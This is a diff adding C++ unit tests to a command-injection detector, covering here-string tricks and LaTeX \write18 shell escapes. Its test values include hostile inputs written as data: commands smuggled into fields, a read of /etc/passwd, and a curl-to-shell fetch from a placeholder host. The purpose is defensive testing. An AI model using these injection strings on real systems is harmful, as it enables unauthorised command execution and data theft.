@@ -211,6 +211,43 @@ TEST(CmdiTest, NodeAndGroovyCommandExecution) {
   }
 }
 
+// A here-string ("cmd<<<word") hands its word to the command like any
+// other redirection; "<<<" in prose or a heart ("I <<<3 you") is no target.
+TEST(CmdiTest, HereStrings) {
+  for (const std::string v : {";`cat<<<sh -c whoami`", ";`cat<<<'ifconfig'`",
+                              "x;`cat<<< \"id\"`", "cat<<<$(id)", "| sh<<<'id'"}) {
+    Case c;
+    c.value = v;
+    Match m;
+    EXPECT_TRUE(Detects(CmdiDetector(), c, &m)) << v;
+  }
+  for (const std::string v : {"I <<<3 you", "a <<< b", "x<<<<y", "see <<< and >>> markers"}) {
+    Case c;
+    c.value = v;
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << v << " -> " << m.rule_id;
+  }
+}
+
+// LaTeX's \write18 runs its argument in a shell when the compiler allows it.
+TEST(CmdiTest, LatexShellEscape) {
+  for (const std::string v : {"\\immediate\\write18{id}", "\\write18 {curl x.example|sh}",
+                              "$x$ \\write18{cat /etc/passwd > out.tex}"}) {
+    Case c;
+    c.value = v;
+    Match m;
+    ASSERT_TRUE(Detects(CmdiDetector(), c, &m)) << v;
+    EXPECT_EQ(m.rule_id, "cmdi.latex_shell_escape") << v;
+  }
+  for (const std::string v : {"\\write18{}", "write18{id}", "\\writer{x}",
+                              "use \\write to print"}) {
+    Case c;
+    c.value = v;
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), c, &m)) << v << " -> " << m.rule_id;
+  }
+}
+
 TEST(CmdiTest, CompletesOnPathologicalInput) {
   testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, ';'));
   testing::RunsOnLargeInput(CmdiDetector(), std::string(1 << 20, '`'));
